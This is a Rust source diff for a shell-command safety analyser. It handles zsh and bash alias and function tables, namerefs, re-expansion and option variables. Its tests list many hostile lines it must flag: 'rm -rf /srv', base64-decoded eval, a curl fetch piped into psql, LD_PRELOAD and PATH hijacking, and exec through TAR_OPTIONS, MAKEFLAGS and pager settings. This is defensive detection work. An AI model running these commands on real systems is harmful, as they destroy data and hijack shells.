@@ -1,0 +1,408 @@
+//! What shells do with names of their own: arrays that are their tables, commands that fill variables, texts that they expand once more.
+
+use super::super::catalogue::Access;
+use super::super::memory::Value;
+use super::super::tree::{Assignment, Change, Piece, Raw, Simple};
+use super::super::words::{Text, Word, subscripts};
+use super::{Input, RunsIn, TRUSTED, Walk, parse};
+use crate::model::{Severity, Span};
+
+impl Walk<'_> {
+    /// An element of a table of the shell's own is set (zshparam(1), "zsh/parameter"; bash, `BASH_ALIASES`, `BASH_CMDS`).
+    pub(super) fn tabled(&mut self, table: &str, key: &str, value: &Word) {
+        match table {
+            "BASH_ALIASES" | "aliases" | "galiases" | "saliases" | "dis_aliases" => {
+                let text = format!("{key}={}", value.shown());
+                let alias = Word { text: Text::Known(text), ..Word::unknown(value.span) };
+                let zsh = matches!(table, "galiases" | "saliases");
+                let global = zsh.then(|| Word { text: Text::Known("-g".to_owned()), ..Word::unknown(value.span) });
+                self.aliases(&global.into_iter().chain([alias]).collect::<Vec<_>>());
+            }
+            "functions" | "dis_functions" => {
+                let place = self.place.inside(RunsIn::Later);
+                let text = value.script();
+                self.nested(&text, parse::Origin::Within(value.span), &Input::Terminal, place);
+                if TRUSTED.contains(&key) {
+                    self.evasion(value.span, key, "puts something else in the place of {object}");
+                }
+                let plain = key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+                if plain && !key.is_empty() {
+                    self.learned.function(key, format!("{key}() {{ {text}\n}}"), true);
+                }
+            }
+            "commands" | "dis_commands" | "BASH_CMDS"
+                if value.shown().contains('/') && !key.bytes().all(|b| b.is_ascii_digit()) =>
+            {
+                self.evasion(value.span, key, "puts something else in the place of {object}");
+            }
+            // Its elements are files (zshmodules(1), "zsh/mapfile").
+            "mapfile" if key.starts_with('/') => {
+                let file = Word { text: Text::Known(key.to_owned()), ..Word::unknown(value.span) };
+                self.touch(&file, Access::Overwrite, value.span);
+            }
+            _ => {}
+        }
+    }
+
+    /// What an assignment of several words means to a shell.
+    pub(super) fn listed(&mut self, assignment: &Assignment, words: &[Word]) {
+        let name = assignment.name.as_str();
+        match name {
+            "BASH_ALIASES" | "aliases" | "galiases" | "saliases" | "functions" | "commands" => {
+                for pair in words.chunks(2) {
+                    if let [key, value] = pair {
+                        self.tabled(name, key.shown(), value);
+                    }
+                }
+            }
+            "path" | "fpath" => {
+                let dirs: Vec<&str> = words.iter().map(Word::shown).collect();
+                let joined = Word { text: Text::Known(dirs.join(":")), ..Word::unknown(assignment.value.span) };
+                self.hook(if name == "path" { "PATH" } else { "FPATH" }, &joined);
+            }
+            "precmd_functions" | "preexec_functions" | "chpwd_functions" | "periodic_functions"
+            | "zshexit_functions" => {
+                let place = self.place.inside(RunsIn::Later);
+                for word in words {
+                    self.nested(&word.script(), parse::Origin::Within(word.span), &Input::Terminal, place);
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// Whether a value that is text until now is a subscript with a command in it: arithmetic runs it (bash, "Shell Arithmetic").
+    pub(super) fn holds_subscript(&mut self, name: &str, value: &Word) {
+        let prompt = name.starts_with("PS") || name.contains("PROMPT");
+        if !prompt && value.known().is_some_and(subscripts) {
+            self.opaque(Severity::Medium, value.span, "a command stands where it is not looked for");
+        }
+    }
+
+    /// `declare -n NAME=OTHER`: what is done to the one is done to the other.
+    pub(super) fn renames(&mut self, simple: &Simple) {
+        let text = |raw: &Raw| match raw.pieces.as_slice() {
+            [Piece::Text { text, .. }] => Some(text.clone()),
+            _ => None,
+        };
+        let flagged = |raw: &Raw| text(raw).is_some_and(|flag| flag.starts_with('-') && flag.contains('n'));
+        let declares = simple.words.first().and_then(text);
+        if !matches!(declares.as_deref(), Some("declare" | "typeset" | "local")) || !simple.words.iter().any(flagged) {
+            return;
+        }
+        for Assignment { name, value, .. } in &simple.assignments {
+            let other = text(value).unwrap_or_default();
+            let catalogue = self.catalogue;
+            let hook = catalogue.is_hook(&other) || catalogue.names_command(&other);
+            if hook || matches!(other.as_str(), "PATH" | "PS0" | "PS1" | "PS4" | "PROMPT_COMMAND" | "BASH_ENV") {
+                self.evasion(value.span, &other, "gives {object} another name, under which it can be set");
+            }
+            // What it means changes with the other.
+            self.learned.assign(name, Value::One(None));
+        }
+    }
+
+    /// Whether the command word is a variable with a modifier of zsh behind it: `$x:s/a/b/`, `$x:h` (zshexpn(1), "Modifiers").
+    pub(super) fn modified(&self, first: &Raw) -> bool {
+        match first.pieces.as_slice() {
+            [Piece::Variable { change: Change::Keep, quoted: false, .. }, Piece::Text { text, quoted: false }, ..] => {
+                text.strip_prefix(':')
+                    .is_some_and(|rest| rest.starts_with(|c: char| "htreAaPlucqQxgsfFwW&".contains(c)))
+            }
+            _ => false,
+        }
+    }
+
+    /// Words that a builtin expands once more, as text in double quotes.
+    pub(super) fn expanded_again(&mut self, name: &str, args: &[Word]) {
+        let again = match name {
+            "print" => args.iter().any(|word| word.shown().starts_with('-') && word.shown().contains('P')),
+            "compgen" | "complete" => args.iter().any(|word| word.shown().starts_with("-W")),
+            _ => false,
+        };
+        for word in args.iter().filter(|word| again && (word.shown().contains("$(") || word.shown().contains('`'))) {
+            let place = self.place.inside(RunsIn::Later);
+            let script = format!(": \"{}\"", word.shown().replace(['"', '\\'], ""));
+            self.nested(&script, parse::Origin::Within(word.span), &Input::Terminal, place);
+        }
+    }
+
+    /// `hash NAME=PATH`, `autoload FILE` of zsh.
+    pub(super) fn hashed(&mut self, name: &str, args: &[Word]) {
+        for word in args {
+            let text = word.shown();
+            match name {
+                "hash" if !args.iter().any(|word| word.shown().starts_with("-d")) => {
+                    if let Some((key, _)) = text.split_once('=').filter(|(_, path)| path.contains('/')) {
+                        let key = key.to_owned();
+                        self.evasion(word.span, &key, "puts something else in the place of {object}");
+                    }
+                }
+                "autoload" if ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|dir| text.starts_with(dir)) => {
+                    self.evasion(word.span, text, "makes a function of {object}, which anybody may have written");
+                }
+                _ => {}
+            }
+        }
+    }
+
+    /// Variables that hold options of a program, or settings of git: what they say is judged as if it stood in the line.
+    pub(super) fn optional(&mut self, name: &str, value: &Word) {
+        let options =
+            [("TAR_OPTIONS", "tar cf x y"), ("MAKEFLAGS", "make"), ("GNUMAKEFLAGS", "make"), ("LESS", "less")];
+        let script = match options.iter().find(|(variable, _)| *variable == name) {
+            Some((_, program)) => format!("{program} {}", value.script()),
+            None if name.starts_with("GIT_CONFIG_KEY_") => format!("git -c {}=./x log", value.script()),
+            None => return,
+        };
+        let place = self.place.inside(RunsIn::Later).within();
+        self.nested(&script, parse::Origin::Within(value.span), &Input::Terminal, place);
+    }
+
+    /// A command gives a variable its value, which nobody has typed behind an `=`.
+    pub(super) fn filled(&mut self, name: &str, value: Option<&str>, span: Span) {
+        if let Some((table, key)) = name.strip_suffix(']').and_then(|name| name.split_once('[')) {
+            let text = value.map_or(Text::Unknown, |value| Text::Known(value.to_owned()));
+            self.tabled(table, key, &Word { text, ..Word::unknown(span) });
+        } else if name.bytes().all(|b| b.is_ascii_uppercase() || b == b'_' || b.is_ascii_digit()) {
+            let text = value.map_or(Text::Unknown, |value| Text::Known(value.to_owned()));
+            self.hook(name, &Word { text, ..Word::unknown(span) });
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::command::{Analysis, Context, Memory, analyse, analyse_after};
+    use crate::model::Severity;
+
+    fn is_held(analysis: &Analysis) -> bool {
+        analysis.effects.iter().any(|e| e.severity >= Severity::Medium)
+    }
+
+    fn judged(lines: &[&str], held: bool) {
+        for line in lines {
+            assert_eq!(is_held(&analyse(line, &Context::PROMPT)), held, "{line}");
+        }
+    }
+
+    #[test]
+    fn what_fish_alone_runs_is_held() {
+        judged(
+            &[
+                "rm -rf (cat list)",
+                "rm -rf /srv/(cat sub)",
+                "eval (echo cm0gLXJmIC9zcnYK | base64 -d)",
+                "sudo (echo rm) -rf /srv",
+                "for f in x; eval (cat $f); end",
+                "mysql -e (echo 'DROP TABLE t')",
+                "psql -c (curl -s https://x.example/a)",
+                "echo x > (echo /etc/passwd)",
+                "echo \"x\"(rm -rf /srv)",
+                "x=(rm -rf /srv) ls",
+                "echo {a,(reboot)}",
+                "echo '\\' ' ; rm -rf /srv # '",
+                "\\x72\\x6d -rf /srv",
+                "alias ls 'rm -rf /srv'",
+                "abbr -a ls rm -rf /srv",
+                "set -gx LD_PRELOAD /tmp/x.so",
+                "set -x PATH /tmp/evil $PATH",
+                "fish_add_path /tmp/evil",
+                "set -l c rm -rf /srv; $c",
+                "fish -C 'rm -rf /srv'",
+                "if true; rm -rf /srv; end",
+                "echo x > ~/.config/fish/functions/ls.fish",
+            ],
+            true,
+        );
+        judged(
+            &[
+                "ls (pwd)",
+                "echo (date) > out.txt",
+                "cd (dirname x)",
+                "set x (hostname)",
+                "echo '\\' ' ; ls # '",
+                "ls x(.)",
+                "if test -d /srv; ls /srv; end",
+                "switch x; case x; ls; end",
+                "function f; ls /srv; end",
+                "while read -l l; echo $l; end < x",
+                "alias ll 'ls -l'",
+                "abbr -a gs git status",
+                "set -gx EDITOR vim",
+                "set -gx PATH ~/bin $PATH",
+                "wc -l < <(grep 'pkill -9' x)",
+                "git commit -m 'don'\\''t; reboot'",
+            ],
+            false,
+        );
+    }
+
+    #[test]
+    fn what_zsh_alone_runs_is_held() {
+        judged(
+            &[
+                "ls # ; rm -rf /srv",
+                "# ; reboot",
+                "echo hi # $(rm -rf /srv)",
+                "echo $(echo hi # ; reboot)",
+                "=rm -rf /srv",
+                "sudo =reboot",
+                "cat =(rm -rf /srv)",
+                "x='rm -rf /srv'; $=x",
+                "x='$(reboot)'; echo ${(e)x}",
+                "${$(echo rm)} -rf /srv",
+                "x=sm; $x:s/s/r/ -rf /srv",
+                "if [[ -d /srv ]] rm -rf /srv",
+                "functions[x]='rm -rf /srv'",
+                "functions+=(q 'rm -rf /srv')",
+                ": ${functions[q]::=reboot}",
+                "read 'functions[q]' <<< reboot",
+                "saliases[txt]='rm -rf'",
+                "commands[ls]=/tmp/evil",
+                "mapfile[/etc/passwd]=x",
+                "hash ls=/tmp/evil",
+                "autoload -Uz /tmp/evil",
+                "path=(/tmp/evil $path)",
+                "precmd_functions+=(reboot)",
+                "print -P '$(reboot)'",
+                "zf_chmod -R 777 /etc",
+                "ls *(oe:reboot:)",
+            ],
+            true,
+        );
+        judged(
+            &[
+                "ls # rm -rf /srv",
+                "ls # don't reboot",
+                "# then, on the other one: reboot",
+                "file =ls",
+                "vim =(git diff)",
+                "echo ${(Q)x}",
+                "commands[0]=ls",
+                "hash -d src=~/src",
+                "autoload -Uz compinit",
+                "path=(~/bin $path)",
+                "print -P '%F{red}hi%f'",
+                "ls *(.om[1])",
+            ],
+            false,
+        );
+    }
+
+    #[test]
+    fn what_a_plain_shell_alone_runs_is_held() {
+        judged(
+            &[
+                "echo $'\\' ; rm -rf /srv #'",
+                "((reboot))",
+                "((rm -rf /srv))",
+                "[[ a || reboot ]]",
+                "echo \"${x-'}\"; rm -rf /srv #'}\"",
+                "cat <<E\\\nOF\nx\nEOF\nrm -rf /srv",
+            ],
+            true,
+        );
+        judged(
+            &[
+                "echo $'it\\'s' fine",
+                "((i++)); echo $i",
+                "if ((a > 3)); then ls; fi",
+                "(( $(nproc) > 3 )) && echo many",
+                "[[ -f x || -f y ]]",
+                "[[ $a == b && $c != d ]] && echo ok",
+            ],
+            false,
+        );
+    }
+
+    #[test]
+    fn what_bash_expands_once_more_is_held() {
+        judged(
+            &[
+                "x='a[$(reboot)]'; echo $((x))",
+                "(( a[$(reboot)] ))",
+                "declare -i x='a[$(reboot)]'",
+                "read 'a[$(reboot)]' <<< 1",
+                "unset 'a[$(reboot)]'",
+                "x='$(reboot)'; echo ${x@P}",
+                "x='\\044(reboot)'; : \"${x@P}\"",
+                "compgen -W '$(reboot)'",
+                "coproc sh",
+                "declare -n r=PROMPT_COMMAND; r=reboot",
+                "declare -n r=x; x=rm; $r -rf /srv",
+                "printf -v PROMPT_COMMAND reboot",
+                "read -r BASH_ENV <<< /tmp/x",
+                "/bin/@(rm) -rf /srv",
+            ],
+            true,
+        );
+        judged(
+            &[
+                "declare -n ref=arr",
+                "coproc cat",
+                "echo ${x@Q} ${PS1@P}",
+                "x='\\u@\\h'; echo ${x@P}",
+                "PS1='$(git branch)[$(date)]$ '",
+                "unset 'a[0]'",
+                "printf -v out '%s' x",
+                "read -r line",
+            ],
+            false,
+        );
+    }
+
+    #[test]
+    fn options_in_variables_are_judged_as_if_they_stood_in_the_line() {
+        judged(
+            &[
+                "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=reboot' tar cf x y",
+                "MAKEFLAGS='--eval=x:;reboot' make x",
+                "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log",
+                "AWS_PAGER='sh -c \"rm -rf /srv\"' aws s3 ls",
+                "git difftool -x 'rm -rf /srv'",
+                "systemd-run -p ExecStartPre=reboot ls",
+                "psql -o '|rm -rf /srv' -c 'select 1'",
+                "rpm -E '%{lua:os.execute(\"reboot\")}'",
+            ],
+            true,
+        );
+        judged(
+            &[
+                "TAR_OPTIONS=--no-same-owner tar xf x",
+                "export MAKEFLAGS=\"-j$(nproc)\"",
+                "LESS=-R git log",
+                "GIT_CONFIG_KEY_0=safe.directory git log",
+                "AWS_PAGER= aws s3 ls",
+                "systemd-run -p MemoryMax=1G ls",
+                "psql -o out.txt -c 'select 1'",
+            ],
+            false,
+        );
+    }
+
+    #[test]
+    fn tables_that_a_session_has_filled_are_remembered() {
+        let first = analyse("functions[q]='rm -rf \"$1\"'", &Context::PROMPT);
+        let mut memory = Memory::default();
+        memory.learn(first.learned, true);
+        assert!(is_held(&analyse_after("q /srv", &Context::PROMPT, &memory)));
+        assert!(!is_held(&analyse("q /srv", &Context::PROMPT)));
+    }
+
+    #[test]
+    fn a_line_may_be_whole_to_one_shell_and_open_to_another() {
+        for (line, complete, open) in [
+            ("ls", true, false),
+            ("echo 'a", false, true),
+            ("echo '\\''", true, true),
+            ("echo 'x\\'", true, true),
+            ("ls # don't", true, true),
+            ("echo $'\\'", true, true),
+            ("echo 'it'\\''s'", true, false),
+        ] {
+            let analysis = analyse(line, &Context::PROMPT);
+            assert_eq!((analysis.complete, analysis.open), (complete, open), "{line}");
+        }
+    }
+}
